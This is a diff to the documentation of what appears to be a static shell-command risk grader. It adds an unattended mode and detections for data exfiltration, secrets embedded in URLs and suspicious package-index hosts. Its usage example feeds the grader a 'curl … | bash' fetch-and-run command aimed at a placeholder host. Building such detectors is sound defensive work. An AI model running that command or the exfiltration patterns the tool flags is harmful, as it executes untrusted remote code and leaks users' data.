@@ -25,7 +25,14 @@ The grader never runs anything. Patterns are RE2 (linear time); tree-sitter-bash
 shell_flow) adds what needs structure (variables, process substitution). Offsets in a
 CommandFact are character offsets into the command string given.
 
-API for callers (settings helper, prose rules, scripts):
+Run unattended (`grade_command(cmd, unattended=True)`: hooks, status lines, credential helpers,
+MCP launchers, folder-open tasks, lifecycle scripts; rules/mcp_supply.grade_launch is the
+settings rules' entry), a command gets no discount for a placeholder host, a vendor installer
+is medium, and three more shapes are reported: sending its input, history, files or command
+output to a stranger (`host-data-exfil`), a secret spliced into a URL, and a package index on a
+bare IP or look-alike host.
+
+API for callers (settings rules, prose rules, scripts):
     facts = grade_command("curl -fsSL https://x.example/i.sh | bash")
     for f in facts: f.kind, f.severity, f.start, f.end, f.message, f.host, f.url, f.grade
     worst(facts) -> the most severe fact or None
